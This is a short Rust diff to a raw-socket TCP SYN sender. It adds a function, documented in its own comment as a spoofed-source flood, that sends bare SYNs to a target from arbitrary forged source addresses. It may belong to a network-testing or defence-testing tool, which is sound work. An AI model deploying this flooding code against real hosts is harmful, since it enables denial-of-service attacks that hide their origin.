@@ -16,6 +16,15 @@ pub fn send_syns(
     target: SocketAddrV4,
     ports: std::ops::Range<u16>,
 ) -> Result<()> {
+    send_syns_from(ports.map(|port| SocketAddrV4::new(source, port)), target)
+}
+
+/// Sends one bare TCP SYN to `target` from each of `sources` (any addresses: a spoofed-source
+/// flood), paced like [`send_syns`].
+pub fn send_syns_from(
+    sources: impl IntoIterator<Item = SocketAddrV4>,
+    target: SocketAddrV4,
+) -> Result<()> {
     let socket = socket2::Socket::new(
         socket2::Domain::IPV4,
         socket2::Type::RAW,
@@ -23,8 +32,7 @@ pub fn send_syns(
     )
     .context("a raw socket (needs root)")?;
     let destination: socket2::SockAddr = SocketAddr::V4(target).into();
-    for (i, port) in ports.enumerate() {
-        let from = SocketAddrV4::new(source, port);
+    for (i, from) in sources.into_iter().enumerate() {
         let packet = tcp_packet(from, target, TCP_SYN, i as u32);
         socket
             .send_to(&packet, &destination)
